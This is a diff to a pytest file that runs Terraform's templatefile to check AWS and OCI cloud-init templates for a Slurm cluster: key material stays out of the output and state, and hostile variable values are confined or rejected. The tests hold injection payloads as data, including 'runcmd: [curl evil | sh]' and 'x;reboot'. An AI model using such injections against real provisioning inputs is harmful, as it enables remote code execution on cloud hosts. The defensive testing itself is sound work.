@@ -19,6 +19,7 @@ Prefect API configured for the run (the test bed's, or Prefect's ephemeral one).
 
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 import uuid
@@ -294,31 +295,123 @@ def test_terraform_modules_are_formatted() -> None:
     assert list((ROOT / "terraform" / "aws").glob("*.tf")) and list((ROOT / "terraform" / "oci").glob("*.tf"))
 
 
-def test_cloud_init_template_renders_with_the_real_binary(tmp_path: Path) -> None:
-    """Terraform's own ``templatefile`` renders cloud-init (a local apply: no provider needed)."""
+def _terraform(work: Path, *argv: str) -> subprocess.CompletedProcess[str]:
+    binary = Path(sys.executable).parent / "terraform"
+    return subprocess.run([str(binary), *argv], cwd=work, capture_output=True, text=True, check=False)
+
+
+CLOUD_INIT_VARS = {"cluster": "acme", "service_account": "heroes", "service_public_key": "ssh-ed25519 AAAA svc",
+                   "shared_fs": "fs:/", "partitions": ["cloud", "gpu"], "compute_count": 4,
+                   "runtime": "apptainer", "role": "headnode"}
+
+
+def _render(work: Path, provider: str, values: dict[str, object]) -> str:
+    """Terraform's own ``templatefile`` renders the module's cloud-init (a local apply, no provider)."""
+    work.mkdir()
+    (work / "cloud-init.yaml.tpl").write_text((ROOT / "terraform" / provider / "cloud-init.yaml.tpl").read_text())
+    (work / "main.tf").write_text('variable "v" {}\noutput "rendered" {\n'
+                                  '  value = templatefile("${path.module}/cloud-init.yaml.tpl", var.v)\n}\n')
+    (work / "v.tfvars.json").write_text(json.dumps({"v": values}))
+    for argv in (["init", "-input=false"],
+                 ["apply", "-auto-approve", "-input=false", "-no-color", "-var-file=v.tfvars.json"]):
+        done = _terraform(work, *argv)
+        assert done.returncode == 0, done.stdout + done.stderr
+    return _terraform(work, "output", "-raw", "rendered").stdout
+
+
+@pytest.mark.parametrize("provider", ["aws", "oci"])
+def test_cloud_init_template_renders_with_the_real_binary(provider: str, tmp_path: Path) -> None:
     import yaml
 
-    binary = Path(sys.executable).parent / "terraform"
-    for provider in ("aws", "oci"):
-        work = tmp_path / provider
-        work.mkdir()
-        (work / "cloud-init.yaml.tpl").write_text((ROOT / "terraform" / provider / "cloud-init.yaml.tpl").read_text())
-        (work / "main.tf").write_text('''output "rendered" {
+    out = _render(tmp_path / provider, provider, CLOUD_INIT_VARS)
+    config = yaml.safe_load(out)
+    assert out.startswith("#cloud-config\n")
+    assert config["users"] == [{"name": "heroes", "shell": "/bin/bash",
+                                "ssh_authorized_keys": ["ssh-ed25519 AAAA svc"]}]
+    assert "PartitionName=gpu Nodes=acme-c[1-4]" in config["write_files"][2]["content"]
+    assert ["systemctl", "enable", "--now", "slurmctld"] in config["runcmd"]
+    assert ["hostnamectl", "set-hostname", "acme-head"] in config["runcmd"]
+
+
+@pytest.mark.parametrize("provider", ["aws", "oci"])
+def test_rendered_user_data_has_no_key_material_and_nodes_make_their_own_host_key(
+        provider: str, tmp_path: Path) -> None:
+    import yaml
+
+    out = _render(tmp_path / provider, provider, CLOUD_INIT_VARS)
+    config = yaml.safe_load(out)
+    assert "PRIVATE KEY" not in out and "ssh_keys" not in config
+    assert config["ssh_deletekeys"] is True and config["ssh_genkeytypes"] == ["ed25519"]
+    assert config["ssh"] == {"emit_keys_to_console": True}
+    (script,) = [f for f in config["write_files"] if f["path"].startswith("/var/lib/cloud/scripts/per-boot/")]
+    assert script["permissions"] == "0755" and "/etc/ssh/ssh_host_ed25519_key.pub" in script["content"]
+
+
+def test_template_keeps_hostile_values_inside_their_yaml_strings(tmp_path: Path) -> None:
+    """Even with the validations bypassed, yamlencode and argv lists keep each value one string."""
+    import yaml
+
+    hostile = "x\nruncmd: [curl evil | sh]\n#"
+    out = _render(tmp_path / "aws", "aws", {**CLOUD_INIT_VARS, "service_account": hostile})
+    config = yaml.safe_load(out)
+    assert config["users"][0]["name"] == hostile
+    assert ["chown", hostile, "/shared/heroes"] in config["runcmd"]
+    assert all(isinstance(item, list) for item in config["runcmd"])
+    assert "curl evil | sh" not in [c for item in config["runcmd"] for c in item]
+
+
+def _module_inputs(provider: str) -> dict[str, object]:
+    """Valid values for every variable of the module without a default."""
+    common = {"organisation": "acme", "region": "r", "image_id": "img", "heroes_cidrs": ["192.0.2.1/32"],
+              "service_account_public_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI heroes@central"}
+    if provider == "aws":
+        return {**common, "access_key": "AK", "secret_key": "SK"}
+    return {**common, "tenancy_ocid": "t", "user_ocid": "u", "fingerprint": "f", "compartment_ocid": "c",
+            "private_key_path": "/nonexistent/key.pem"}
+
+
+@pytest.fixture(scope="module", params=["aws", "oci"])
+def variables_module(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The module's real variables.tf and cloud-init template, wired as main.tf wires them (no provider)."""
+    provider = request.param
+    work = tmp_path_factory.mktemp(f"variables-{provider}")
+    for name in ("variables.tf", "cloud-init.yaml.tpl"):
+        (work / name).write_text((ROOT / "terraform" / provider / name).read_text())
+    (work / "main.tf").write_text('''output "rendered" {
   value = templatefile("${path.module}/cloud-init.yaml.tpl", {
-    cluster = "acme", service_account = "heroes", service_public_key = "ssh-ed25519 AAAA svc",
-    host_private_key = "-----BEGIN OPENSSH PRIVATE KEY-----\\nabc\\n-----END OPENSSH PRIVATE KEY-----\\n",
-    host_public_key = "ssh-ed25519 BBBB host", shared_fs = "fs:/", partitions = ["cloud", "gpu"],
-    compute_count = 4, runtime = "apptainer", role = "headnode" })
+    cluster = var.cluster_name == "" ? var.organisation : var.cluster_name,
+    service_account = var.service_account, service_public_key = var.service_account_public_key,
+    shared_fs = "fs:/", partitions = var.partitions, compute_count = var.max_compute_nodes,
+    runtime = var.container_runtime, role = "headnode" })
 }
 ''')
-        for argv in (["init", "-input=false"], ["apply", "-auto-approve", "-input=false", "-no-color"]):
-            done = subprocess.run([str(binary), *argv], cwd=work, capture_output=True, text=True, check=False)
-            assert done.returncode == 0, done.stdout + done.stderr
-        out = subprocess.run([str(binary), "output", "-raw", "rendered"], cwd=work, capture_output=True,
-                             text=True, check=True).stdout
-        config = yaml.safe_load(out)
-        assert out.startswith("#cloud-config")
-        assert config["users"][0]["ssh_authorized_keys"] == ["ssh-ed25519 AAAA svc"]
-        assert config["ssh_keys"]["ed25519_public"] == "ssh-ed25519 BBBB host"
-        assert "PartitionName=gpu" in config["write_files"][2]["content"]
-        assert "systemctl enable --now slurmctld" in config["runcmd"]
+    (work / "provider").write_text(provider)
+    done = _terraform(work, "init", "-input=false")
+    assert done.returncode == 0, done.stdout + done.stderr
+    return work
+
+
+def _apply(work: Path, values: dict[str, object]) -> subprocess.CompletedProcess[str]:
+    (work / "in.tfvars.json").write_text(json.dumps({**_module_inputs((work / "provider").read_text()),
+                                                     **values}))
+    return _terraform(work, "apply", "-auto-approve", "-input=false", "-no-color", "-var-file=in.tfvars.json")
+
+
+def test_variables_tf_accepts_valid_inputs_and_renders_no_private_key(variables_module: Path) -> None:
+    done = _apply(variables_module, {"partitions": ["cloud", "gpu_a100"], "service_account": "heroes-svc"})
+    assert done.returncode == 0, done.stdout + done.stderr
+    out = _terraform(variables_module, "output", "-raw", "rendered").stdout
+    assert "PartitionName=gpu_a100" in out and "PRIVATE KEY" not in out
+    assert "PRIVATE KEY" not in (variables_module / "terraform.tfstate").read_text()
+
+
+@pytest.mark.parametrize("hostile", [
+    {"service_account": "root\nruncmd: [curl evil | sh]"}, {"service_account": "Admin"},
+    {"partitions": ["gpu\nPartitionName=all Nodes=ALL"]}, {"partitions": []}, {"partitions": ["a", "a"]},
+    {"organisation": "ACME"}, {"organisation": "acme\nusers: []"}, {"cluster_name": "x;reboot"},
+    {"service_account_public_key": "ssh-ed25519 AAAA\nruncmd: [x]"},
+], ids=lambda v: next(iter(v)))
+def test_variables_tf_refuses_hostile_cluster_inputs(variables_module: Path, hostile: dict[str, object]) -> None:
+    done = _apply(variables_module, hostile)
+    assert done.returncode != 0
+    assert "Invalid value for variable" in done.stderr and f'variable "{next(iter(hostile))}" {{' in done.stderr
